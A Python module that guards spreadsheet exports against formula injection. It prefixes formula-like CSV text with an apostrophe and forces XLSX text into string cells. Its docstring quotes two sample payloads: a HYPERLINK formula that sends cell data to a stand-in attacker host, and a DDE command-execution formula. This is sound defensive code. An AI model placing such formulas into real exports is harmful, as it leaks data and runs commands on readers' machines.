"""Cells for every CSV and XLSX export, safe to open in a spreadsheet program.

A spreadsheet program runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@``
(also after a leading tab or carriage return) as a formula: a candidate named
``=HYPERLINK("http://evil.example/?"&A2, "open")`` or a college called
``=cmd|"/c calc"!A1`` would become live content in the file an official opens. So:

- XLSX: every text is written as a string cell (``t="s"``/inline string), never ``<f>``;
  the text itself is unchanged.
- CSV has no cell types: a text starting with one of those characters gets a leading
  apostrophe (``'=HYPERLINK(…)``), which spreadsheet programs show as text. Programs
  reading the CSV as data strip one leading ``'`` from such a value
  (docs/import-formats.md).
- Numbers (``int``, ``Decimal``) stay numbers in both; negative marks are never text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    """True for a text a spreadsheet program would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_value(value: Any) -> Any:
    """The value as a CSV export writes it: formula-like text behind an apostrophe."""
    return "'" + value if looks_like_formula(value) else value


def csv_text(
    header: Sequence[Any], rows: Iterable[Sequence[Any]], *, lineterminator: str = "\r\n"
) -> str:
    """Write a CSV export (header and rows), every text cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    writer.writerow([csv_value(v) for v in header])
    for row in rows:
        writer.writerow([csv_value(v) for v in row])
    return buffer.getvalue()


def set_cell(cell: Any, value: Any) -> Any:
    """Put ``value`` into an openpyxl cell; text is always a string cell, never a formula.

    openpyxl itself turns text starting with ``=`` into a formula and ``#N/A`` into an
    error cell.
    """
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def write_only_cell(sheet: Any, value: Any) -> Any:
    """A cell of a write-only worksheet holding ``value`` (see ``set_cell``)."""
    from openpyxl.cell import WriteOnlyCell

    return set_cell(WriteOnlyCell(sheet), value)
